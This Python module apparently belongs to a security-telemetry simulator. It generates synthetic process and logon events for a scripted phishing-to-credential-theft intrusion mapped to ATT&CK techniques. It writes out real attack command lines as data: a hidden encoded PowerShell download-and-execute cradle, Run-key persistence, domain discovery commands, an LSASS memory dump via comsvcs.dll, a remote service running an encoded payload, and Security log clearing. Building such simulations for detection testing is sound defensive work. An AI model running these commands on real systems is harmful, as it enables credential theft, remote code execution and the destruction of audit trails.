"""The scenario phish-to-credentials: a document in a mail, PowerShell, a dump of LSASS, a second host, cleared logs."""

from tocsin.sources.simulator.attack import Move, Stage
from tocsin.sources.simulator.fleet import Host
from tocsin.sources.simulator.programs import Program, program
from tocsin.sources.simulator.recorder import HIGH, INTERACTIVE, NTLM, Process, Session
from tocsin.sources.simulator.residents import DAY_US
from tocsin.sources.simulator.scripts import encoded_command
from tocsin.sources.simulator.text import escaped, number_of

MOVES = (
    Move("A document with macros is opened from a mail", "TA0001", "T1566.001"),
    Move("Word starts hidden, encoded PowerShell", "TA0002", "T1059.001"),
    Move("PowerShell fetches and runs a second script", "TA0011", "T1105"),
    Move("A Run key starts it again at logon", "TA0003", "T1547.001"),
    Move("Who am I, and what may I do", "TA0007", "T1033"),
    Move("Who are the domain administrators", "TA0007", "T1069.002"),
    Move("Which domains trust this one", "TA0007", "T1482"),
    Move("The memory of LSASS is dumped by comsvcs.dll", "TA0006", "T1003.001"),
    Move("A stolen account logs on to a second host", "TA0008", "T1021.002", "correlation"),
    Move("A service with a random name is installed there", "TA0003", "T1543.003"),
    Move("The service runs a command", "TA0002", "T1569.002"),
    Move("The security log is cleared", "TA0112", "T1685.005"),
)

_SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_LETTERS = "bcdfghjklmnpqrstvwxzBCDFGHJKLMNPQRSTVWXZ"


def play(stage: Stage) -> None:
    """Write the whole scenario."""
    fleet, number = stage.fleet, stage.number
    places = [host for host in fleet.workstations if host.has_sysmon and host.has_process_audit]
    places = places or list(fleet.workstations or fleet.hosts)
    victim = places[number_of("phish victim", stage.run) % len(places)]
    target = fleet.servers[number % len(fleet.servers)]
    _first_host(stage, victim)
    _second_host(stage, victim, target)
    stage.pause()


def _first_host(stage: Stage, victim: Host) -> None:
    recorder, user = stage.recorder, victim.owner.folder
    explorer = _desktop_of(stage, victim)
    mailer = recorder.process_started(
        stage.at(0), victim, explorer, program("outlook"), _quoted(program("outlook")), None, _home(user)
    )
    stage.begin(MOVES, 1)
    document = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3QZ81VD\\"
    opened = _quoted(program("winword")) + escaped(f' /n "{document}Invoice_{4000 + stage.number}.docm" /o ""')
    word = recorder.process_started(stage.at(40), victim, mailer, program("winword"), opened, None, _home(user))
    stage.begin(MOVES, 2)
    script = _cradle(stage)
    command = escaped(f'"{_SHELL}" -NoP -NonI -W Hidden -Exec Bypass -Enc {encoded_command(script)}')
    shell = recorder.process_started(stage.at(52), victim, word, program("powershell"), command, None, _home(user))
    stage.begin(MOVES, 3)
    recorder.script_ran(stage.at(54), victim, shell, escaped(script), is_suspicious=True)
    stage.begin(MOVES, 4)
    run_key = (
        '"C:\\Windows\\system32\\reg.exe" add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync '
        f'/t REG_SZ /d "{_SHELL} -W Hidden -File C:\\Users\\{user}\\AppData\\Roaming\\sync.ps1" /f'
    )
    recorder.process_started(stage.at(170), victim, shell, program("reg"), escaped(run_key), None, _home(user))
    stage.begin(MOVES, 5)
    recorder.process_started(
        stage.at(310),
        victim,
        shell,
        program("whoami"),
        escaped('"C:\\Windows\\system32\\whoami.exe" /all'),
        None,
        _home(user),
    )
    stage.begin(MOVES, 6)
    group = escaped('"C:\\Windows\\system32\\net.exe" group "domain admins" /domain')
    net = recorder.process_started(stage.at(362), victim, shell, program("net"), group, None, _home(user))
    inner = escaped('C:\\Windows\\system32\\net1  group "domain admins" /domain')
    recorder.process_started(stage.at(362.2), victim, net, program("net1"), inner, None, _home(user))
    stage.begin(MOVES, 7)
    trusts = escaped('"C:\\Windows\\system32\\nltest.exe" /domain_trusts /all_trusts')
    recorder.process_started(stage.at(401), victim, shell, program("nltest"), trusts, None, _home(user))
    stage.begin(MOVES, 8)
    pid = victim.lsass_pid
    dump = (
        '"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, '
        f"MiniDump {pid} C:\\Windows\\Temp\\wct{stage.number}.dmp full"
    )
    elevated = shell.session.elevated()
    recorder.process_started(stage.at(905), victim, shell, program("rundll32"), escaped(dump), elevated)


def _second_host(stage: Stage, victim: Host, target: Host) -> None:
    recorder = stage.recorder
    admin = stage.fleet.admins[stage.number % len(stage.fleet.admins)]
    stage.begin(MOVES, 9)
    session = recorder.logged_on(
        stage.at(1510), target, admin, NTLM, address=victim.address, workstation=victim.short_name, integrity=HIGH
    )
    services = stage.residents.resident_of(target).services
    letters = number_of("service", stage.run)
    name = "".join(_LETTERS[(letters >> (5 * place)) % len(_LETTERS)] for place in range(8))
    payload = encoded_command(
        f"IEX (New-Object Net.WebClient).DownloadString('http://{victim.address.decode()}:8080/b')"
    )
    image = f"%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -encodedcommand {payload}"
    stage.begin(MOVES, 10)
    recorder.service_installed(stage.at(1512), target, admin, escaped(name), escaped(image))
    stage.begin(MOVES, 11)
    command = escaped(image.replace("%COMSPEC%", "C:\\Windows\\system32\\cmd.exe"))
    cmd = recorder.process_started(stage.at(1513), target, services, program("cmd"), command)
    inner = escaped(f"powershell.exe  -nop -w hidden -encodedcommand {payload}")
    remote = recorder.process_started(stage.at(1513.4), target, cmd, program("powershell"), inner)
    stage.begin(MOVES, 12)
    clear = escaped('"C:\\Windows\\system32\\wevtutil.exe" cl Security')
    recorder.process_started(stage.at(2390), target, remote, program("wevtutil"), clear)
    recorder.log_cleared(stage.at(2390.6), target, remote.session)
    stage.pause()
    recorder.logged_off(stage.at(2400), target, session, NTLM)


def _desktop_of(stage: Stage, victim: Host) -> Process:
    """The victim's explorer: that of the working day, or one of a logon made for it out of hours."""
    shift = stage.residents.shift_of(victim, stage.start_us // DAY_US)
    if shift is not None and shift.arrival_us + 30_000_000 < stage.start_us and stage.at(2400) < shift.departure_us:
        return shift.explorer
    recorder = stage.recorder
    session: Session = recorder.logged_on(stage.at(-30), victim, victim.owner, INTERACTIVE, terminal=1)
    winlogon = stage.residents.resident_of(victim).winlogon
    userinit_command = escaped("C:\\Windows\\system32\\userinit.exe")
    userinit = recorder.process_started(stage.at(-28), victim, winlogon, program("userinit"), userinit_command, session)
    return recorder.process_started(
        stage.at(-27), victim, userinit, program("explorer"), escaped("C:\\Windows\\Explorer.EXE")
    )


def _cradle(stage: Stage) -> str:
    file = f"{number_of('file', stage.run):08x}.ps1"
    return (
        "$c = New-Object System.Net.WebClient; $c.Headers.Add('User-Agent', 'Mozilla/5.0'); "
        f"IEX $c.DownloadString('http://203.0.113.{20 + stage.number % 200}/update/{file}')"
    )


def _quoted(facts: Program) -> bytes:
    return b'\\"%b\\"' % facts.image


def _home(user: str) -> bytes:
    return escaped(f"C:\\Users\\{user}\\")
